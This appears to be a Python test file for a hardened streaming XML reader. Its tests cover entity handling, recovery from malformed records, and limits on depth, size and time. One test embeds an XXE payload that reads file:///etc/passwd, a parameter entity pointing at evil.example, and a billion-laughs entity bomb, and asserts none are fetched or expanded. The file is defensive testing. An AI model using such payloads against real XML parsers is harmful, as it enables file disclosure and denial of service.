"""XML as a safe stream of small trees."""

from __future__ import annotations

import time
from xml.etree.ElementTree import tostring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kg.errors import ReadError
from kg.readers import xmltree
from kg.readers.xmltree import MAX_DEPTH, child, first_text, opening, parse, records


def titles(text: str, *names: str) -> tuple[list[str], list[str]]:
    """The titles of all records, and the notes."""
    notes: list[str] = []
    found = [first_text(record.element, "t") for record in records(text, names or ("r",), notes)]
    return found, notes


def test_names_are_local_and_the_path_leads_to_the_root() -> None:
    text = '<d xmlns="u" xmlns:x="v"><x:v id="1"><m>meta</m><x:r><x:t>a</x:t></x:r></x:v></d>'
    record = next(records(text, ("r",), []))
    assert [element.tag for element in record.path] == ["d", "v"]
    assert first_text(record.path[-1], "m") == "meta"
    assert first_text(record.element, "t") == "a"


def test_a_record_is_emptied_when_the_next_is_asked_for() -> None:
    stream = records("<d><r><t>a</t></r><r><t>b</t></r></d>", ("r",), [])
    first = next(stream)
    next(stream)
    assert first_text(first.element, "t") == ""


def test_only_the_outermost_of_equal_names() -> None:
    found, notes = titles("<d><r><t>a</t><x><r><t>inner</t></r></x></r><r><t>b</t></r></d>")
    assert (found, notes) == (["a", "b"], [])


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("&uuml;&nbsp;&alpha;&#150;", "ü α–"),
        ("A&T R & D &amp; &foo; &", "A&T R & D & &foo; &"),
        ("&lt;b&gt; &#60; &lang;", "<b> < ⟨"),
        ("<![CDATA[a <b> & &amp;]]>", "a <b> & &amp;"),
        ("a<!-- <t>b</t> -->c<?pi <x?>d", "acd"),
        ("a\x0cb\x00c&#0;d&#xFFFF;", "a b c�d"),
        ("&own; &alias;", "Jane"),
    ],
)
def test_characters(source: str, text: str) -> None:
    doctype = '<!DOCTYPE d SYSTEM "d.dtd" [<!ENTITY own "Jane"><!ENTITY alias "&own;&own;">]>'
    found, _ = titles(f"{doctype}<d><r><t>{source}</t></r></d>")
    assert found == [text]


def test_nothing_external_is_fetched_and_nothing_multiplied() -> None:
    bomb = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = (
        '<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x">%p;'
        f'{bomb}<!ENTITY big "{"x" * 1000}">]><d><r><t>a&f;b&l9;c&big;d</t></r></d>'
    )
    found, notes = titles(text)
    assert found == ["abcd"]
    assert any("'f' lies outside the document and is not fetched" in note for note in notes)
    assert any("more entities that are not expanded" in note for note in notes)


def test_what_the_declaration_says_of_the_encoding_does_not_matter() -> None:
    found, notes = titles('<?xml version="1.0" encoding="EBCDIC-XYZ"?><d><r><t>é</t></r></d>')
    assert (found, notes) == (["é"], [])


def test_prefixes_that_nobody_declared() -> None:
    text = '<oai:d><oai:r><dc:t x:lang="en">a</dc:t></oai:r>\n<r><q:t>b</q:t></r></oai:d>'
    assert titles(text) == (["a", "b"], [])


def test_several_documents_in_one() -> None:
    text = '<d><r><t>a</t></r></d>\n<?xml version="1.0"?>\n<!DOCTYPE d>\n<d><r><t>b</t></r></d>'
    assert titles(text) == (["a", "b"], [])


@pytest.mark.parametrize(
    ("fault", "read", "line"),
    [
        ("<r><t>bad</x></r>", ["bad"], 3),
        ("<r>\n<t>1 < 2</t></r>", ["1 < 2"], 4),
        ("<r><t>bad</r>", ["bad"], 3),
        ("<r><t>bad<y>x</y></r>", ["bad"], 3),
        ("<r><t a=b>bad</t></r>", ["bad"], 3),
        ("</x>", [], 3),
    ],
)
def test_a_fault_costs_its_record_at_most(fault: str, read: list[str], line: int) -> None:
    found, notes = titles(f"<d>\n<r><t>a</t></r>\n{fault}\n<r><t>b</t></r>\n<r><t>c</t></r></d>")
    assert found == ["a", *read, "b", "c"]
    assert len(notes) == 1
    assert notes[0].startswith(f"line {line}, column ")


def test_what_is_cut_off_is_left_out_and_the_rest_kept() -> None:
    found, notes = titles("<d><r><t>a</t></r><r><t>b</t><u>half of a sent")
    assert found == ["a", "b"]
    assert notes == ["line 1, column 47: the document ends before </r>"]
    (record,) = records("<r><t>a</t><u>half of a sent", ("r",), [])
    assert child(record.element, "u") is None
    (record,) = records("<r><t>a</t><author><last>Berg</last><first>Ja", ("r",), [])
    assert child(record.element, "author") is None  # better no name than half a one


def test_a_record_that_is_not_closed_does_not_swallow_the_next() -> None:
    found, notes = titles("<d><r><t>a</t><r><t>b</t></r>\n<r><t>c</t></r></d>")
    assert found == ["a", "b", "c"]
    assert notes[0] == "line 1: record without </r>"


def test_after_a_fault_the_elements_around_are_still_known() -> None:
    text = "<d><v><m>one</m><r><t>a</x></r><r><t>b</t></r></v><v><m>two</m><r><t>c</t></r></v></d>"
    found = [(first_text(r.element, "t"), first_text(r.path[-1], "m")) for r in records(text, ("r",), [])]
    assert found == [("a", "one"), ("b", "one"), ("c", "two")]


def test_deep_nesting_costs_its_record() -> None:
    deep = "<x>" * 20_000 + "</x>" * 20_000
    found, notes = titles(f"<d><r><t>a</t></r><r>{deep}</r><r><t>c</t></r></d>")
    assert found == ["a", "c"]
    assert notes == [f"line 1, column 19: elements within each other more than {MAX_DEPTH} deep"]
    with pytest.raises(ReadError, match="more than 256 deep"):
        parse(deep)


def test_limits_of_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xmltree, "MAX_NODES", 100)
    found, notes = titles(f"<d><r>{'<x/>' * 200}</r><r><t>b</t></r></d>")
    assert (found, len(notes)) == (["b"], 1)
    monkeypatch.setattr(xmltree, "MAX_GAP", 1000)
    found, notes = titles(f"<d><r><t>a</t></r><r a='{'>' * 600_000}'/><r><t>b</t></r></d>")
    assert found[0] == "a"
    assert "without a tag" in notes[0]


@pytest.mark.parametrize(
    "text",
    [
        "<d>" + "<!---->" * 100_000,
        "<d>" + "<!--" * 200_000,
        "<d><r>" + "<" * 300_000,
        "<d><r>" + "&" * 300_000,
        "<d>" + "<r><t></r>" * 3000,
        "<!DOCTYPE " + "<!ENTITY a 'b'>" * 20_000,
        "<d>" + "<a>x</a>" * 50_000 + "<r/></d>",
    ],
)
def test_hostile_texts_take_linear_time(text: str) -> None:
    start = time.process_time()
    sum(1 for _ in records(text, ("r",), []))
    assert time.process_time() - start < 5


def test_parse_gives_the_whole_tree_as_far_as_it_goes() -> None:
    notes: list[str] = []
    tree = parse("<a><b>x</b><c>y<d>z</a>", notes)
    assert tostring(tree) == b"<a><b>x</b><c>y</c><d>z</d></a>"
    assert notes == ["line 1, column 22: mismatched tag"]
    assert parse('<w:a xmlns:w="u"/>', namespaces=True).tag == "{u}a"
    with pytest.raises(ReadError, match="no element in it"):
        parse("just text")


def test_opening_looks_past_the_prologue() -> None:
    text = (
        '\ufeff<?xml version="1.0"?>\n<!-- <x> -->\n<!DOCTYPE a [<!ENTITY b "<c>">]>\n<p:a k="v>w"><z/></p:a>'
    )
    start = opening(text)
    assert start is not None
    assert (start.prefix, start.name, start.attributes.strip()) == ("p", "a", 'k="v>w"')
    assert opening("text <a>") is None
    assert opening("") is None


PIECES = st.sampled_from(
    [
        *("<d>", "</d>", "<r>", "</r>", "<t>", "</t>", "<r/>", "a", "&", "&amp;", "<", ">", "<!--", "-->"),
        *(
            "<![CDATA[",
            "]]>",
            "<?",
            "?>",
            "<!DOCTYPE d [",
            "]>",
            '<!ENTITY e "',
            '"',
            " x='",
            "<q:r>",
            "</q:r>",
        ),
        *("\n", "\x00", "é", "&e;"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40))
def test_any_text_ends_without_error(pieces: list[str]) -> None:
    notes: list[str] = []
    for record in records("".join(pieces), ("r",), notes):
        assert record.element.tag == "r"
